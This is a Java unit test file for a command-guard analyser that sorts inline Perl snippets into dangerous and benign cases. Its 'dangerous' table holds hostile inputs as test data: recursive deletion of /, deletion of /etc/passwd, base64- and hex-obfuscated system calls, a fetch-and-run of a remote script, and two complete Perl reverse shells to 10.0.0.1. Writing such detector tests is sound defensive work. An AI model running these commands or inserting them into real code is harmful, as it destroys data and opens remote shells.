package dev.cmdguard.unwrap.inline;

import static dev.cmdguard.unwrap.inline.Rows.row;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class PerlInlineTest {

  static Stream<Arguments> dangerous() {
    return Stream.of(
        row("system(\"rm -rf /\")", "shell:rm -rf /"),
        row("`rm -rf /`", "shell:rm -rf /"),
        row("use File::Path; rmtree(\"/home/dev\")", "delete-r:/home/dev"),
        row("system \"rm\", \"-rf\", \"/\"", "argv:[rm, -rf, /]"),
        row("system('rm', '-rf', '/')", "argv:[rm, -rf, /]"),
        row("my @cmd = ('rm', '-rf', '/tmp/x'); system(@cmd)", "argv:[rm, -rf, /tmp/x]"),
        row("exec \"/bin/sh\"", "shell:/bin/sh"),
        row("my $d = \"/home\"; system(\"rm -rf $d\")", "shell:rm -rf /home"),
        row("exec qq{rm -rf $ENV{HOME}}", "shell:rm -rf ~"),
        row("qx(rm -rf /tmp/x)", "shell:rm -rf /tmp/x"),
        row("print qx{id}", "shell:id"),
        row("open(my $fh, \"|-\", \"sh -c 'id'\")", "shell:sh -c 'id'"),
        row("open(F, \"rm -rf / |\")", "shell:rm -rf /"),
        row("open(F, '| mail root')", "shell:mail root"),
        row("open(my $fh, \">\", \"/etc/hosts\") or die", "write:/etc/hosts"),
        row("open(F, \">>/etc/profile\")", "write:/etc/profile"),
        row("unlink \"/etc/passwd\"", "delete:/etc/passwd"),
        row("unlink glob(\"*.tmp\")", "delete~:*.tmp"),
        row("rmdir('/srv/www')", "delete:/srv/www"),
        row(
            "use File::Path qw(remove_tree); remove_tree(\"/var/www\", {verbose => 1})",
            "delete-r:/var/www"),
        row("File::Path::rmtree('/opt/x', 0, 1)", "delete-r:/opt/x"),
        row(
            "$file = $_; $file =~ s/\\s+/_/g; rename($_, $file);",
            "delete-r~:${_}",
            "write~:${file}"),
        row("exec { \"/bin/sh\" } \"sh\", \"-c\", \"id\"", "argv:[/bin/sh, -c, id]"),
        row("my @a = ('rm', '-rf'); push @a, '/'; system @a", "shell~:${a}"),
        row("$_ = \"rm -rf /\"; system $_", "shell:rm -rf /"),
        row("system sprintf(\"rm -rf %s\", \"/\")", "shell:rm -rf /"),
        row("my $f = \"/tmp/a\"; foreach my $f (@files) { unlink $f }", "delete~:${f}"),
        row("eval \"system('id')\"", "eval:eval", "shell:id"),
        row("use MIME::Base64; eval(decode_base64(\"c3lzdGVtKCdpZCcp\"))", "eval:eval", "shell:id"),
        row("my $x = $ARGV[0]; eval $x", "eval~:eval", "opaque"),
        row("$c = \"sys\" . \"tem\"; &$c(\"id\")", "shell:id"),
        row("&{\"sys\" . \"tem\"}(\"id\")", "shell:id"),
        row("&{$name}(\"id\")", "opaque"),
        row("s/x/system(\"id\")/e", "shell:id"),
        row("print \"@{[ `id` ]}\"", "shell:id"),
        row("while(<>){chomp;$l = `crontab -u $_ -l`;print $l}", "shell~:crontab -u ${_} -l"),
        row("system(pack('H*', '726d202d7266202f'))", "shell:rm -rf /"),
        row(
            "use LWP::Simple; getstore(\"http://x/a.sh\", \"/tmp/a.sh\"); system(\"sh /tmp/a.sh\")",
            "net:getstore",
            "write:/tmp/a.sh",
            "shell:sh /tmp/a.sh"),
        row(
            "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                + "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
                + "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
            "net:connect",
            "shell:/bin/sh -i",
            "revshell:connect"),
        row(
            "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");"
                + "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
            "net:IO::Socket::INET->new",
            "shell~:${_}",
            "revshell:IO::Socket::INET->new"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        row("print if /foo/"),
        row("print \"hello\\n\""),
        row("s/foo/bar/g"),
        row("s{^}{\\\"};s{$}{\\\"}"),
        row("s/(.*\\/).*$/$1/"),
        row("print scalar(localtime), \" \", $_"),
        row("$s = 0; while (<>) { $s += $_ } print $s"),
        row(
            "$path = $_; s?.*/??; $name = $_; $map{$name} = $path; ++$c;"
                + " END { print $map{(sort(keys(%map)))[$c-1]} }"),
        row("-e || print"),
        row("$sum+=$F[1];END{print \"$sum\\n\"}"),
        row(
            "BEGIN{$,=\"\\t&\";$\\=\"\\t\\\\\\\\\\n\"}$.==1||eof||do{$i//=@F;print@F[map{$_*2-1}(1..$i/2)]}"),
        row(
            "while (<>) { $release = $1 if m/ \\$RELEASE\\s+= .([\\d.]+).;/; } print qq( = $release\\n);"),
        row("print $1 if m/\\.([^.\\/]+)$/"),
        row("$t += $F[6]; print $t/1024/1024/1024 . \" GB\""),
        row(
            "chomp(@files = <>); foreach my $f (sort { (stat($a))[9] <=> (stat($b))[9] } @files) { print $f }"),
        row("print join(\",\", map { $_ * 2 } (1..3))"),
        row("my %h = (a => 1, b => 2); print $h{a}"),
        row("print \"system('rm -rf /')\""),
        row("print 'unlink \"/etc/passwd\"'"),
        row("# system('rm -rf /')\nprint 1"),
        row("=pod\nsystem('rm -rf /')\n=cut\nprint 1"),
        row("print q{`rm -rf /`}"),
        row("my @w = qw(system exec unlink); print \"@w\""),
        row("print $ENV{HOME}"),
        row("eval { die \"x\" }; print $@"),
        row("print -s $file"),
        row("y/a-z/A-Z/"),
        row("tr/a-z//d; print"),
        row("print sprintf(\"%05d\", $_)"),
        row("use strict; use warnings; print \"ok\\n\""),
        row("open(my $fh, \"<\", \"input.txt\") or die; print <$fh>"),
        row("open(F, \"data.txt\"); print <F>"),
        row("my $s = \"a\" x 3; print $s"),
        row("print lc(uc(\"x\"))"),
        row("printf(\"%s\\n\", $_) for @ARGV"),
        row("print $_->{name} for @list"),
        row("__END__\nsystem('rm -rf /')"),
        row("my @a = (1, 2); push @a, 3; print \"@a\""),
        row("print \"$0 $$\\n\""),
        row("local $/; my $s = <STDIN>; print length $s"),
        row("print join(\"\\n\", sort keys %ENV)"),
        row("foreach my $f (@ARGV) { print \"$f\\n\" }"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"dangerous", "benign"})
  void analyses(String code, List<String> expected) {
    Rows.check(Language.PERL, code, expected);
  }

  @Test
  void tableHasAsManyBenignRowsAsDangerous() {
    Rows.assertBalanced(Stream.concat(dangerous(), benign()));
  }
}
